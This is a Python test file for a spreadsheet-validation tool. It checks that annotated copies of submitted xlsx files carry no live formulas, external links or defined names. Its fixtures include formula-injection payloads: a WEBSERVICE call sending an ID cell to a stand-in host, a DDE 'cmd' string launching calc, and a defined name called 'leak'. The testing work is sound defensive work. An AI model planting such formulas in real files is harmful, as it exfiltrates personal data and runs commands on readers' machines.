"""An annotated copy carries nothing live from the submitter (issue 15 item 6): formula
cells become the values Excel saved for them, no recalculation is forced on open, no
external link, defined name, conditional format or data validation formula is kept —
opening the copy cannot send a 身份证号 out."""

from __future__ import annotations

import json
import zipfile

from builders import clean_register, write_register
from click.testing import CliRunner

from sheetkit.cli import cli

AS_OF = "2026-11-22"
LIVE = ('WEBSERVICE("http://x.example/?id="&C2)', 'HYPERLINK("http://x.example/","点我")', "cmd|' /c calc'!A0")


def _with_live_formulas(path):
    """A clean register whose 机构 sheet has formula cells with cached values (as Excel
    saves them), a conditional format and a defined name calling WEBSERVICE."""
    write_register(path, clean_register(1))
    src = zipfile.ZipFile(path)
    parts = {i.filename: src.read(i.filename) for i in src.infolist()}
    src.close()
    sheet = parts["xl/worksheets/sheet1.xml"]
    cells = "".join(f'<c r="{col}2" t="str"><f>{f.replace("&", "&amp;").replace(chr(34), "&quot;")}</f>'
                    f"<v>cached{n}</v></c>" for n, (col, f) in enumerate(zip(("X", "Y", "Z"), LIVE)))
    sheet = sheet.replace(b"</row>", cells.encode() + b"</row>", 1)
    cf = ('<conditionalFormatting sqref="A2"><cfRule type="expression" priority="1">'
          '<formula>LEN(WEBSERVICE("http://x.example/"&amp;C2))&gt;0</formula></cfRule></conditionalFormatting>')
    sheet = sheet.replace(b"</sheetData>", b"</sheetData>" + cf.encode(), 1)
    parts["xl/worksheets/sheet1.xml"] = sheet
    book = parts["xl/workbook.xml"]
    book = book.replace(b"</sheets>", b'</sheets><definedNames><definedName name="leak">'
                        b'WEBSERVICE("http://x.example/")</definedName></definedNames>', 1)
    parts["xl/workbook.xml"] = book
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, body in parts.items():
            out.writestr(name, body)
    return path


def test_annotated_copy_has_no_live_formula(tmp_path):
    src = _with_live_formulas(tmp_path / "in" / "live.xlsx")
    before = src.read_bytes()
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["validate", str(src.parent), "--as-of", AS_OF, "--annotate", str(out),
                                      "--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert json.loads(result.stdout)["files"][0]["sheets"]
    copy = out / "live.标注.xlsx"
    with zipfile.ZipFile(copy) as z:
        names = z.namelist()
        book = z.read("xl/workbook.xml").decode()
        sheets = {n: z.read(n).decode() for n in names if n.startswith("xl/worksheets/sheet")}
    assert 'fullCalcOnLoad="1"' not in book and "WEBSERVICE" not in book
    assert not [n for n in names if "externalLink" in n]
    for name, xml in sheets.items():
        for word in ("WEBSERVICE", "cmd|", "x.example"):
            assert word not in xml, (name, word)
    import openpyxl

    ws = openpyxl.load_workbook(copy)["机构"]
    assert [ws["X2"].value, ws["Y2"].value, ws["Z2"].value] == ["cached0", "cached1", "cached2"]
    assert src.read_bytes() == before
